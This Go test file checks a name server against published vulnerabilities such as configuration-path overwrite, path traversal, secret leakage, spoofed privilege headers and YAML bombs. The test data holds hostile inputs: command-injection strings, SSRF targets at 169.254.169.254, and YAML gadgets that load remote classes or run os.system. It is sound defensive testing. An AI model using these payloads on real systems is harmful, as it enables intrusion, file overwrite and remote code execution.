package namesrv_test

import (
	"bytes"
	"fmt"
	"io/fs"
	"log/slog"
	"maps"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gonamesrv/codec"
	"gonamesrv/internal/namesrv"
	"gonamesrv/internal/nstest"
)

// The weaknesses of name servers and their like that were published, tried on this one.
// SECURITY.md lists them all; those that are not here have tests beside what they attack.

// filesBelow returns the files below a directory.
func filesBelow(t *testing.T, dir string) (files []string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(dir, path)
			files = append(files, rel)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(files)
	return files
}

// inside returns a directory, and a home in it beside which nothing may be written.
func inside(t *testing.T) (dir, home string) {
	t.Helper()
	dir = t.TempDir()
	home = filepath.Join(dir, "home")
	if err := os.Mkdir(home, 0o700); err != nil {
		t.Fatal(err)
	}
	return dir, home
}

// TestAttackConfigStorePath is CVE-2023-37582, and what CVE-2023-33246 does to a name
// server: one request says where the configuration is stored, the next what is written
// there. Even who may do all that this server lets anybody do cannot: here there is no
// preset. Spellings of a key that Java's Properties reads as the same are refused alike.
func TestAttackConfigStorePath(t *testing.T) {
	dir, home := inside(t)
	s := start(t, func(c *namesrv.Config) {
		c.AccessPreset = "open"
		c.ConfigStorePath, c.KVConfigPath = filepath.Join(home, "namesrv.properties"), filepath.Join(home, "kv.json")
	})
	c := s.dial(t)
	outside := filepath.Join(dir, "written")
	before := configText(c)
	for _, key := range []string{
		"configStorePath", "configStorePathName", "rocketmqHome", "kvConfigPath", "configBlackList", "routeSnapshotPath", "accessFile", "horizonFile",
		"tls.config.file", "tls.server.keyPath", "tls.server.certPath", "adminTokenFile", "logFile", "JAVA_OPT", "filterServerNums",
	} {
		escaped := ""
		for _, r := range key {
			escaped += fmt.Sprintf("\\u%04x", r)
		}
		for _, text := range []string{
			key + "=" + outside, key + ":" + outside, key + " " + outside, key + "\t=\t" + outside, "\f " + key + "=" + outside, escaped + "=" + outside,
			key[:1] + "\\" + key[1:] + "=" + outside, // \x is x where x means nothing
			key[:3] + "\\\n  " + key[3:] + "=" + outside, strings.ToUpper(key) + "=" + outside, strings.ToLower(key) + "=" + outside,
			key + "=" + outside + "\r", "# comment\r" + key + "=" + outside,
		} {
			for _, body := range []string{text, "enableTopicList=true\n" + text, text + "\nproductEnvName=x\\nconfigStorePath\\=y"} {
				reply := c.Do(updateConfig(body))
				if codec.ResponseCode(reply.Code) == codec.RespSuccess {
					t.Errorf("%q is answered SUCCESS", body)
				}
				c.Do(updateConfig("productEnvName=export\\ JAVA_OPT\\=x")) // the second frame
			}
		}
	}
	if got, want := configText(c), strings.Replace(before, "productEnvName=\n", "productEnvName=export JAVA_OPT=x\n", 1); changes(before, got) != changes(before, want) && changes(before, got) != "productEnvName=export JAVA_OPT=x" {
		t.Errorf("changed: %s", changes(before, got))
	}
	if got := filesBelow(t, dir); !slices.Equal(withoutLocks(got), []string{"home/namesrv.properties"}) {
		t.Errorf("there are the files %q", got)
	}
}

// withoutLocks leaves out what belongs to a file: its lock and its backup.
func withoutLocks(files []string) []string {
	return slices.DeleteFunc(files, func(f string) bool { return strings.HasSuffix(f, ".lock") || strings.HasSuffix(f, ".bak") })
}

// TestAttackConfigFromElsewhere: by default the two published frames, and the keys that
// rmq#7542 turns a server off with, come no further than the event loop.
func TestAttackConfigFromElsewhere(t *testing.T) {
	s := start(t, func(c *namesrv.Config) { c.ProxyProtocolTrusted = "127.0.0.0/8" })
	before := configText(s.dial(t))
	for _, from := range []string{"10.1.2.3", "192.168.0.1", "203.0.113.200"} {
		c := s.dialFrom(t, from)
		for _, body := range []string{
			"configStorePath=/tmp/pwned", "productEnvName=/path/pwn\\nkvConfigPath=/tmp/pwned\n", "listenPort=1", "enableTopicList=false",
			"clientRequestThreadPoolNums=1", "serverWorkerThreads=1", "productNamesrvAddr=169.254.169.254:80", "rocketmq.namesrv.domain=169.254.169.254",
		} {
			for range 2 {
				if reply := c.Do(updateConfig(body)); codec.ResponseCode(reply.Code) != codec.RespNoPermission {
					t.Errorf("%s: %q is answered %v", from, body, codec.ResponseCode(reply.Code))
				}
			}
		}
	}
	if got := changes(before, configText(s.dial(t))); got != "" {
		t.Errorf("changed: %s", got)
	}
}

// TestAttackAddressServer: whom a cluster-test server asks is no matter of any request. Who
// could change it would make the server ask any address of the network.
func TestAttackAddressServer(t *testing.T) {
	s := start(t, func(c *namesrv.Config) { c.AccessPreset = "open" })
	c := s.dial(t)
	for _, key := range []string{"productNamesrvAddr", "rocketmq.namesrv.domain", "rocketmq.namesrv.domain.subgroup", "peerNamesrvAddr"} {
		if reply := c.Do(updateConfig(key + "=169.254.169.254:80")); codec.ResponseCode(reply.Code) == codec.RespSuccess {
			t.Errorf("%s is changed", key)
		}
	}
}

// TestAttackNamesAsPaths is the class of CVE-2019-17572: names that brokers, topics,
// clusters, namespaces and keys may have never become names of files.
func TestAttackNamesAsPaths(t *testing.T) {
	dir, home := inside(t)
	at := func(name string) string { return filepath.Join(home, name) }
	var s *testServer
	clients := t
	t.Run("served", func(t *testing.T) { // at its end nobody else writes
		s = start(t, func(c *namesrv.Config) {
			c.KVConfigPath, c.ConfigStorePath, c.RouteSnapshotPath = at("kv.json"), at("namesrv.properties"), at("routes.snap")
		})
		s.clients = clients // so that the brokers are there at the end
		c := s.dial(t)
		for i, name := range []string{
			"../../outside", "..", ".", "/" + dir + "/outside", dir + "/outside", `..\..\outside`, "a\x00b", "%2e%2e%2foutside", "~/outside", "$HOME/outside",
			"file:///" + dir + "/outside", "con", "aux.json", "`touch outside`", "$(touch outside)", "| touch outside", "\u2025/outside", strings.Repeat("../", 40) + "outside",
		} {
			b := brokerA
			b.Cluster, b.Name, b.Topics = name, name, []string{name}
			b.Addr = fmt.Sprintf("10.0.0.1:%d", 10000+i)
			c.Do(b.Register())
			c.Do(nstest.Request(codec.ReqPutKVConfig, "namespace", name, "key", name, "value", name))
			c.Do(nstest.Request(codec.ReqGetKVConfig, "namespace", name, "key", name))
			for _, code := range []codec.RequestCode{codec.ReqGetRouteInfoByTopic, codec.ReqDeleteTopicInNamesrv} {
				c.Do(nstest.Request(code, "topic", name, "clusterName", name))
			}
			c.Do(nstest.Request(codec.ReqWipeWritePermOfBroker, "brokerName", name))
		}
		wantCode(t, c.Do(updateConfig("productEnvName=../../outside")), codec.RespSuccess, "")
	})
	if err := s.WriteRoutes(); err != nil {
		t.Fatal(err)
	}
	if got := withoutLocks(filesBelow(t, dir)); !slices.Equal(got, []string{"home/kv.json", "home/namesrv.properties", "home/routes.snap"}) {
		t.Errorf("there are the files %q", got)
	}
}

// TestAttackGettersShowNoSecret is the class of CVE-2024-23321 and rmq#5970: whoever may ask
// for everything is told no secret of anybody, in no answer, no counter and no line.
func TestAttackGettersShowNoSecret(t *testing.T) {
	const canary = "c4n4ry-9f3b"
	secret := filepath.Join(t.TempDir(), "secret")
	writeFile(t, secret, canary+"-of-a-file\n")
	t.Setenv("ATTACK_SECRET", canary+"-of-the-environment")
	_, change := withAccess(t, "standard", "accounts:\n - {accessKey: one, secretKey: "+canary+", admin: true}\n - {accessKey: two, secretKey: '${file:"+secret+"}'}\n - {accessKey: three, secretKey: '${env:ATTACK_SECRET}'}\n")
	s, log := startLogging(t, func(c *namesrv.Config) {
		change(c)
		c.TLS.ServerKeyPassword, c.TLS.ClientKeyPassword = canary+"-of-the-server", canary+"-of-the-client"
		c.Unknown = []codec.Field{{Name: "myPassword", Value: canary + "-of-the-file"}, {Name: "secretKey", Value: canary + "-unknown"}}
	})
	c := s.dial(t)
	var shown strings.Builder
	for code := range codec.RequestCode(1000) {
		if code == codec.ReqUnregisterBroker {
			continue
		}
		for _, fields := range [][]string{
			nil,
			{"topic", "TBW102"},
			{"namespace", "ORDER_TOPIC_CONFIG"},
			{"namespace", "accounts", "key", "secretKey"},
			{"cluster", "c"},
			{"clusterName", "c", "brokerName", "b", "brokerAddr", "10.0.0.1:1", "haServerAddr", "", "brokerId", "0"},
		} {
			reply := c.Do(nstest.Request(code, fields...))
			fmt.Fprintf(&shown, "%s %s ", reply.Remark, reply.Body)
			for _, f := range reply.Ext {
				fmt.Fprintf(&shown, "%s=%s ", f.Name, f.Value)
			}
		}
	}
	fmt.Fprintf(&shown, "%+v", s.Snapshot())
	if text := shown.String(); strings.Contains(text, canary) {
		i := strings.Index(text, canary)
		t.Errorf("shown: %s", text[max(0, i-200):i+40])
	}
	if log.has(canary) {
		t.Error("a line of the log has it")
	}
}

// TestAttackWordsGiveNoRight is the class of Nacos CVE-2021-29441: nothing that a peer says
// of itself, in whatever field, gives a right or takes one. Of random requests each is
// answered as its plain twin, as far as permission goes.
func TestAttackWordsGiveNoRight(t *testing.T) {
	_, change := withAccess(t, "strict", "networks: [{name: a, cidr: 10.9.9.9, rights: all}]\naccounts: [{accessKey: ops, secretKey: not-a-sample, admin: true}]\n")
	s := start(t, change)
	froms := []string{"10.1.2.3", "203.0.113.200"}
	clients := []*nstest.Client{s.dialFrom(t, froms[0]), s.dialFrom(t, froms[1])}
	may := mayOf(t, "strict")
	words := []string{
		"fromClusterTest", "true", "User-Agent", "Nacos-Server", "identity", "serverIdentity", "X-Forwarded-For", "127.0.0.1", "X-Real-IP", "::1", "AccessKey", "", "ops",
		"rocketmq2", "Signature", "SecurityToken", "admin", "OnsChannel", "ALIYUN", "__ZONE_NAME", "__ZONE_MODE", "clientIp", "remoteAddr", "localhost", "isAdmin", "role",
		"whiteRemoteAddress", "nsSign", "enableActingMaster", "brokerId", "-1", "namespace", "topic", "T",
	}
	rnd := rand.New(rand.NewPCG(1, 2))
	refused := map[bool]int{}
	codes := slices.Sorted(maps.Keys(may))
	for range 4000 {
		var code codec.RequestCode
		if _, err := fmt.Sscanf(codes[rnd.IntN(len(codes))], "%d", &code); err != nil {
			t.Fatal(err)
		}
		r := nstest.Request(code)
		for range rnd.IntN(5) {
			r.Ext = append(r.Ext, codec.ExtField{Name: []byte(words[rnd.IntN(len(words))]), Value: []byte(words[rnd.IntN(len(words))])})
		}
		r.Language, r.Version = codec.LanguageCode(rnd.IntN(20)), int32(rnd.Uint32())
		r.Remark = []byte(words[rnd.IntN(len(words))])
		r.Flag |= codec.Flag(rnd.Uint32()) &^ (codec.FlagOneway | codec.FlagResponse)
		i := rnd.IntN(len(clients))
		reply := clients[i].Do(r)
		got := codec.ResponseCode(reply.Code) != codec.RespNoPermission
		if want := may[fmt.Sprintf("%d %s", code, []string{"site", "public"}[i])]; got != want {
			t.Fatalf("from %s, code %d with %+v: allowed %v, want %v", froms[i], code, r, got, want)
		}
		refused[got]++
	}
	if refused[true] < 100 || refused[false] < 100 {
		t.Errorf("%v", refused)
	}
}

// TestAttackYAMLBombs: no file that operators write in YAML grows when it is read: aliases,
// anchors, tags and merge keys mean nothing, or are refused.
func TestAttackYAMLBombs(t *testing.T) {
	var laughs bytes.Buffer
	laughs.WriteString("a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n")
	for c := 'b'; c <= 'i'; c++ {
		fmt.Fprintf(&laughs, "%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
	}
	for name, tail := range map[string]string{
		"laughs":         laughs.String(),
		"alias in place": laughs.String() + "networks: *i\nhorizons: *i\n",
		"merged":         "x: &x {deny: true}\nnetworks: [{<<: *x, name: a, cidr: 10.0.0.1}]\nhorizons: [{<<: *x, name: a}]\n",
		"of a class":     "networks: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://10.0.0.1/\"]]]]\nhorizons: !!python/object/apply:os.system [id]\n",
		"of itself":      "networks: &n [*n]\nhorizons: &h [*h]\n",
	} {
		file := filepath.Join(t.TempDir(), "file.yaml")
		writeFile(t, file, tail)
		cfg := namesrv.DefaultConfig()
		cfg.AccessFile = file
		if _, _, err := namesrv.CheckAccess(cfg); err == nil || len(err.Error()) > 64<<10 {
			t.Errorf("%s: the accessFile is taken, or its error has no bound: %.200v", name, err)
		}
		cfg = namesrv.DefaultConfig()
		cfg.KVConfigPath, cfg.HorizonFile = "", file
		if _, err := namesrv.New(cfg, slog.New(slog.DiscardHandler)); err == nil || len(err.Error()) > 64<<10 {
			t.Errorf("%s: the horizonFile is taken, or its error has no bound: %.200v", name, err)
		}
	}
}
